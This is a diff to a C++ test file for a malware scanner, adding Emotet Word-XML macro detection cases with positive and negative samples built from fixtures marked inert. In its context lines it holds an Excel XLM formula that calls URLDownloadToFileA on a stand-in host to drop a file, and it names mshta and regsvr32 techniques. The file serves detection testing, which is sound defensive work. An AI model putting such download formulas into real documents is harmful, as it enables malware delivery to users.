@@ -5,6 +5,7 @@
 
 #include <set>
 
+#include "base/text.h"
 #include "scanner/format.h"
 #include "scanner/identify.h"
 #include "scanner/magic.h"
@@ -14,6 +15,7 @@
 #include "tests/fixtures/droppers.h"
 #include "tests/fixtures/le.h"
 #include "tests/fixtures/mail.h"
+#include "tests/fixtures/xml_documents.h"
 
 namespace sekisho::scanner::rules {
 namespace {
@@ -61,6 +63,15 @@ std::string huge_member(std::string name, std::uint32_t size) {
 std::string locked_zip() {
     return fixtures::stored_zip({{.name = "invoice.doc", .data = std::string(64, 'x'), .encrypted = true}});
 }
+RuleFacts word_document(std::string name) {
+    RuleFacts facts = named(std::move(name));
+    facts.extension = "." + base::extension_of(facts.filename);
+    return facts;
+}
+std::string word_xml(bool macros) {
+    const fixtures::VbaProject project = fixtures::dropper_project("2018-05");
+    return fixtures::word_xml_file("INERT SEKISHO TEST", macros ? &project : nullptr);
+}
 std::string sheet(std::string_view cell) { return fixtures::xls_file(cell); }
 
 // Inert: what the rule is there for.
@@ -73,6 +84,8 @@ std::vector<Sample> positives() {
         {"Emotet_VBA_ProgramData_Script_2022", macro("2022-02"), vba()},
         {"Emotet_VBA_Padded_Regsvr32_2023", macro("2023-03"), vba()},
         {"Emotet_Padded_Document_2023", padded_document(true), named("Data-16032023.doc", "zip")},
+        {"Emotet_Word_XML_Macro_2018", word_xml(true), word_document("PAYMENT 225EWF.doc")},
+        {"Emotet_Word_XML_Macro_2018", "\xFF\xFE" + utf16le(word_xml(true)), word_document("invoice.DOC")},
         {"Emotet_XLM_Download_2022",
          sheet("CALL(\"nolib\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://example.invalid/x/"
                "\",\"..\\inert.ocx\")"),
@@ -139,6 +152,8 @@ std::vector<Sample> negatives() {
         {"Emotet_VBA_ProgramData_Script_2022", log_macro, vba()},
         {"Emotet_VBA_Padded_Regsvr32_2023", update_macro, vba()},
         {"Emotet_Padded_Document_2023", padded_document(false), named("scan.doc")},
+        {"Emotet_Word_XML_Macro_2018", word_xml(false), word_document("report.doc")},
+        {"Emotet_Word_XML_Macro_2018", word_xml(true), word_document("form with macros.xml")},
         {"Emotet_XLM_Download_2022", sheet("The article on JJCCBB and CALL"), named("a.xls")},
         {"Emotet_XLM_Mshta_Caret_2022", "mshta is described at http://example.com/", named("a.txt")},
         {"Emotet_Excel_Templates_Folder_2022",
